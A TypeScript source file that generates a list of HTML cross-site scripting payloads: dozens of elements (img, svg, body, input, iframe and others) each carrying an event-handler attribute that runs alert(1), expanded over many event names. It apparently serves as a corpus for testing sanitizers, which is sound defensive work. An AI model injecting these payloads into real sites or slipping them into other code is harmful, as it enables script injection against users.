const LOADED: readonly (readonly [element: string, events: string])[] = [
  ['<body EVENT=alert(1)>', 'onload onpageshow onfocus onresize onhashchange onmessage onpopstate onunload'],
  [
    '<img src=/media/scene--wool--85817b-dfcfae--wide--21.jpg EVENT=alert(1)>',
    'onerror onload onloadstart onloadend',
  ],
  ['<svg EVENT=alert(1)></svg>', 'onload onbegin onfocusin'],
  ['<video src=/media/none.mp4 autoplay EVENT=alert(1)></video>', 'onerror onloadstart oncanplay onplay'],
  ['<audio src=/media/none.mp3 autoplay EVENT=alert(1)></audio>', 'onerror onloadeddata ontimeupdate'],
  ['<video><source src=/media/none.mp4 EVENT=alert(1)></video>', 'onerror'],
  ['<iframe src=/ EVENT=alert(1)></iframe>', 'onload onfocus'],
  ['<object data=/none EVENT=alert(1)></object>', 'onerror onload'],
  ['<embed src=/none EVENT=alert(1)>', 'onload onerror'],
  ['<input autofocus EVENT=alert(1)>', 'onfocus onblur oninput onselect oninvalid onkeydown onsearch'],
  ['<textarea autofocus EVENT=alert(1)>felt</textarea>', 'onfocus oninput onselectionchange'],
  ['<select autofocus EVENT=alert(1)><option>felt</select>', 'onfocus onchange'],
  ['<button autofocus EVENT=alert(1)>felt</button>', 'onfocus onclick onauxclick'],
  [
    '<a href=/about autofocus EVENT=alert(1)>felt</a>',
    'onfocus onclick onmouseover oncontextmenu ondragstart',
  ],
  [
    '<p tabindex=1 EVENT=alert(1)>felt</p>',
    'onclick ondblclick onmousedown onmouseup onmousemove onmouseover onmouseout onmouseenter onmouseleave',
  ],
  [
    '<div tabindex=1 EVENT=alert(1)>felt</div>',
    'onpointerdown onpointerup onpointermove onpointerover onpointerenter onpointerrawupdate ongotpointercapture',
  ],
  ['<span EVENT=alert(1) draggable=true>felt</span>', 'ondrag ondragend ondragenter ondragover ondrop'],
  ['<b EVENT=alert(1) contenteditable>felt</b>', 'onbeforeinput onkeyup onkeypress onpaste oncopy oncut'],
  ['<em EVENT=alert(1)>felt</em>', 'ontouchstart ontouchend ontouchmove ontouchcancel onwheel onscroll'],
  [
    '<p style="transition:color 1s;animation:x 1s" EVENT=alert(1)>felt</p>',
    'onanimationstart onanimationend onanimationiteration ontransitionend ontransitionrun ontransitionstart',
  ],
  ['<details open EVENT=alert(1)><summary>felt</summary></details>', 'ontoggle onbeforetoggle onclick'],
  ['<marquee EVENT=alert(1)>felt</marquee>', 'onstart onbounce onfinish'],
  ['<form EVENT=alert(1)><button>felt</button></form>', 'onsubmit onreset onformdata'],
  ['<dialog open EVENT=alert(1)>felt</dialog>', 'onclose oncancel onfocus'],
  ['<p popover id=x EVENT=alert(1)>felt</p>', 'onbeforetoggle ontoggle'],
  ['<p hidden=until-found EVENT=alert(1)>felt</p>', 'onbeforematch'],
  ['<td EVENT=alert(1)>felt</td>', 'oncontentvisibilityautostatechange onsecuritypolicyviolation'],
  ['<x-felt EVENT=alert(1)>felt</x-felt>', 'onscrollend onscrollsnapchange onwebkitanimationstart'],
  ['<style EVENT=alert(1)></style>', 'onload onerror'],
  ['<link rel=stylesheet href=/none.css EVENT=alert(1)>', 'onload onerror'],
  ['<script src=/none.js EVENT=alert(1)></script>', 'onerror onload'],
  ['<track EVENT=alert(1)>', 'oncuechange onerror'],
  ['<frameset EVENT=alert(1)></frameset>', 'onload onpageshow onfocus'],
]

/** Elements with event handlers. */
export const HANDLERS: readonly string[] = LOADED.flatMap(([element, events]) =>
  events.split(' ').map((event) => element.replace('EVENT', event)),
)
